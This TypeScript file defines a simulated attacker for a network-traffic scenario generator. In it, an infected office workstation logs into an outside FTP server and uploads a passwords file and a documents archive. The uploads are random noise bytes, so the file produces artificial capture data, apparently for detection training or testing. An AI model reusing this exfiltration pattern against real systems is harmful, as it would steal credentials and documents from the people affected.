import type { Random } from "#base/random.ts";
import { defineActor } from "#capture/scenario/actor.ts";
import { Side } from "#capture/scenario/frames/endpoint.ts";
import type { TcpConnection } from "#capture/scenario/frames/tcp-connection.ts";
import type { Host } from "#capture/scenario/office.ts";
import type { Process } from "#capture/scenario/scheduler.ts";
import type { World } from "#capture/scenario/world.ts";

const FTP = 21;
const passwordsBytes = 24_000;
const documentsBytes = 4_000_000;
const chunk = 250_000;

export default defineActor({
  name: "exfiltration",
  summary: "A stealer on a desk logs in at a stranger's FTP server and stores what it has found there: passwords, then documents.",
  label: "attack",
  *start(world, random) {
    const client = world.office.workstations[3] as Host;
    const drop = world.outside.host("203.0.113.105", 26_000);
    yield world.wait(262);
    const control = world.connect(client, drop, FTP, { loss: 0 });
    yield* control.open();
    yield* control.send(Side.server, line("220 FTP ready"));
    yield* say(control, random, "USER box", "331 Password required for box");
    yield* say(control, random, "PASS hunter2", "230 Logged in");
    yield* say(control, random, "TYPE I", "200 Type set to I");
    const names = [`PW_owner-DESK-4_${timeText(world.now)}.html`, `CO_owner-DESK-4_${timeText(world.now)}.zip`];
    for (const [i, name] of names.entries())
      yield* store(world, random, control, [client, drop], name, i === 0 ? passwordsBytes : documentsBytes);
    yield* say(control, random, "QUIT", "221 Goodbye");
    yield* control.close();
  },
});

const line = (text: string): Uint8Array => Uint8Array.from(`${text}\r\n`, (letter) => letter.charCodeAt(0));

function* say(control: TcpConnection, random: Random, text: string, answer: string): Process {
  yield* control.send(Side.client, line(text));
  yield* control.pause(random.between(300, 6_000));
  yield* control.send(Side.server, line(answer));
}

/** A file over a connection of its own, to a port that the server names (RFC 959 4.1.2). */
function* store(
  world: World,
  random: Random,
  control: TcpConnection,
  [client, drop]: readonly [Host, Host],
  name: string,
  bytes: number,
): Process {
  const port = random.between(50_000, 60_000);
  const place = [drop.ip4 >>> 24, (drop.ip4 >>> 16) & 255, (drop.ip4 >>> 8) & 255, drop.ip4 & 255, port >> 8, port & 255].join(",");
  yield* say(control, random, "PASV", `227 Entering Passive Mode (${place})`);
  const data = world.connect(client, drop, port);
  yield* data.open();
  yield* say(control, random, `STOR ${name}`, "150 Ready for data");
  for (let sent = 0; sent < bytes; sent += chunk) {
    yield* data.send(Side.client, world.noise.bytes(random, Math.min(chunk, bytes - sent)));
    yield* data.pause(random.between(20_000, 300_000));
  }
  yield* data.close();
  yield random.between(300, 6_000);
  yield* control.send(Side.server, line("226 Transfer complete"));
}

/** `YYYY_MM_DD_hh_mm_ss`. */
const timeText = (time: number): string => new Date(time / 1000).toISOString().slice(0, 19).replaceAll(/[-T:]/g, "_");
